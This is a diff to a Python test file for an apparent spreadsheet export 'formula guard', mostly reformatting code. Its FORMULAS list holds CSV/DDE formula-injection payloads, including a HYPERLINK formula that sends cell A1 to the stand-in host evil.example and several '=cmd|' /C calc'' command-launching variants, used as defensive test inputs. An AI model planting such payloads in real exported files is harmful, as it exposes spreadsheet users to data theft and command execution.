@@ -15,7 +15,7 @@ Make = Callable[..., Workbench]
 
 FORMULAS = [
     "=1+1",
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")",
+    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
     "=cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -36,7 +36,7 @@ FORMULAS = [
     '" =1+1"',
     "\u00a0=1+1",
     "\ufeff=1+1",
-]  # fmt: skip
+]
 HARMLESS = [
     "",
     "a=1",
@@ -103,8 +103,11 @@ def test_without_the_guard_nothing_is_changed(work: Workbench) -> None:
 
 
 def test_numbers_and_moments_stay_what_they_are(work: Workbench) -> None:
-    work.make("d", "select -1 as a, -2.50::decimal(9,2) as b, -1e-7::double as c, '-inf'::double as d, null::varchar as e,"
-                   " date '2026-01-01' as f, timestamp '2026-01-01 00:00:00' as g, true as h, -5::hugeint as i")  # fmt: skip
+    work.make(
+        "d",
+        "select -1 as a, -2.50::decimal(9,2) as b, -1e-7::double as c, '-inf'::double as d, null::varchar as e,"
+        " date '2026-01-01' as f, timestamp '2026-01-01 00:00:00' as g, true as h, -5::hugeint as i",
+    )
     export(work, formula_guard=True)
     assert lines(work)[1] == ["-1", "-2.50", "-1e-07", "-inf", "", "2026-01-01", "2026-01-01 00:00:00", "true", "-5"]
 
